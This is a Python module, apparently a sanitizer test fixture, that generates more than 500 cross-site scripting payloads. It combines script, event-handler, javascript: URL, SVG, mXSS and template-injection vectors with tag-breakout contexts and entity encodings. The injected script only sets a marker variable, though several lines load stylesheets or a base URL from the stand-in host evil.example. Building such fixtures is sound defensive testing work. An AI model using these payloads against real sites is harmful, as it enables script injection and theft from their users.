"""Hostile texts of our own making: what is injected, out of which place, in which spelling."""

MARK = "window.__hit=1"

VECTORS = [
    f"<script>{MARK}</script>",
    f"<script src=data:text/javascript,{MARK}></script>",
    f"<img src=x onerror={MARK}>",
    f"<img src=x:x onerror='{MARK}'>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<body onload={MARK}>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<iframe src='javascript:parent.{MARK}'></iframe>",
    f"<a href='javascript:{MARK}'>x</a>",
    f"<a href='data:text/html,<script>{MARK}</script>'>x</a>",
    f"<math><mtext><mglyph><style><img src=x onerror={MARK}></style></mglyph></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'></noscript>",
    f"<form><button formaction='javascript:{MARK}'>x</button></form>",
    f"<object data='javascript:{MARK}'></object>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';*{color:red}</style>",
    f"{{{{{MARK}}}}}{{% raw %}}{{{{ 7*7 }}}}",
    f"[x](javascript:{MARK}) ![x](x onerror={MARK})",
    f"onmouseover={MARK} style=background:url(//evil.example/x)",
]

CONTEXTS = ["", '">', "'>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</svg>", "\u2028", "\u202e"]


def spellings(text):
    """The text as it is, in mixed case, and with its marks as entities, once and twice."""
    entity = text.replace("<", "&lt;").replace(">", "&gt;")
    mixed = "".join(c.upper() if i % 2 else c for i, c in enumerate(text.replace(MARK, "\0"))).replace("\0", MARK)
    return [text, mixed, entity.replace("&", "&amp;"), entity]


PAYLOADS = [spelled for context in CONTEXTS for vector in VECTORS for spelled in spellings(context + vector)]
assert len(set(PAYLOADS)) >= 500, len(set(PAYLOADS))
